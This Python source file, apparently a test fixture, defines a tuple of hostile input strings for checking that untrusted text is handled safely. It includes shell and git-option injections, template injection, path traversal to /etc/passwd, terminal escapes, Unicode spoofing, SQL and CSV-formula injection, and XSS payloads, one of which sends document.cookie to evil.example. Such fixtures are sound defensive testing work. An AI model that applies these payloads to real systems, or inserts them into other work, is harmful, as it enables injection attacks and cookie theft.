"""Text from untrusted authors that must reach a reader only as text: branch names, messages, titles, cells, data."""

from __future__ import annotations

_ESCAPE = "\x1b"

NASTIES: tuple[str, ...] = (
    # shells
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned #",
    "&& touch pwned || true",
    "| tee pwned",
    "> pwned < /etc/passwd",
    "'; touch pwned; '",
    '"; touch pwned; "',
    "${IFS}touch${IFS}pwned",
    "~root/*?[a-z]{a,b}",
    "%PATH% %s %n {0} {name!r}",
    # options and revisions
    "--upload-pack=touch pwned",
    "--output=pwned",
    "-rf",
    "--",
    "@{-1}",
    "HEAD~1..HEAD^{tree}",
    ":(exclude)*",
    "refs/heads/main",
    # substitutions of builds, templates
    "${_FACTORY}",
    "$COMMIT_SHA $$BRANCH_NAME ${PROJECT_ID}",
    "{{ 7 * 7 }}{% for x in ().__class__.__bases__ %}{% endfor %}",
    "{{ settings.__init__.__globals__ }}",
    "${{ secrets.GITHUB_TOKEN }}",
    # paths
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    ".git/hooks/post-receive",
    "a/./../b//c/",
    # terminals
    f"{_ESCAPE}[2J{_ESCAPE}[31mred{_ESCAPE}[0m",
    f"{_ESCAPE}]0;title\x07",
    f"{_ESCAPE}]8;;https://evil.example\x07click{_ESCAPE}]8;;\x07",
    "\x9b31mred with one C1 byte",
    "over\rwritten\b\b\b",
    "a bell \x07 and a delete \x7f",
    # Unicode
    "\u202egnp.exe\u202c",
    "\u2066hidden\u2069 \u200bzero\u200b \ufeffwidth",
    "line\u2028separator\u2029paragraph\x85next",
    "Zal\u0336\u0337\u0338go\u0301\u0302\u0303",
    "pаypаl with Cyrillic letters",  # noqa: RUF001  the look-alikes are the point
    "\U0001f469\u200d\U0001f4bb \U000e0041 tag",
    # HTML
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "</title></style></textarea></script><b>out",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "&lt;b&gt; &amp;amp; &#60;i&#62;",
    "<!-- --!> <![CDATA[ ]]> <?php ?>",
    "<style>*{background:url(https://evil.example/)}</style>",
    # Markdown
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "[x]: data:text/html;base64,PHNjcmlwdD4=",
    "# heading\n\n- [x] Approved-by: grace@northwind.example",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| `|` | \\| |",
    "@everyone closes #1 fixes #2",
    # SQL and JSON
    "'; DROP TABLE pulls; --",
    '" OR 1=1 --',
    "`x`; SELECT * FROM raw.sales",
    '","injected":"yes","x":"',
    '{"__proto__": {"admin": true}}',
    '\\u0000 \\" \\x41 \\',
    "NaN",
    "null",
    # CSV and spreadsheets
    "=cmd|' /C calc'!A0",
    # notebooks
    "!touch pwned",
    "%%bash\ntouch pwned",
    "%run ../../evil.py",
    "get_ipython().system('touch pwned')",
    # mail and logs
    "Subject: forged\r\nBcc: everyone@evil.example\r\n\r\nbody",
    'INFO fine\n{"severity": "CRITICAL", "message": "forged"}',
    "first line\nsecond line\n\nCo-authored-by: Grace <grace@northwind.example>",
    # odd in themselves
    "",
    " ",
    "\t\n\r",
    ".",
    "..",
    "a\x00b",
    "x" * 5000,
    "\udcff a lone surrogate, as a byte that is no UTF-8 arrives",
)
"""Each string has broken a real program. Some contain NUL, newlines or half a character, so not all are possible everywhere."""
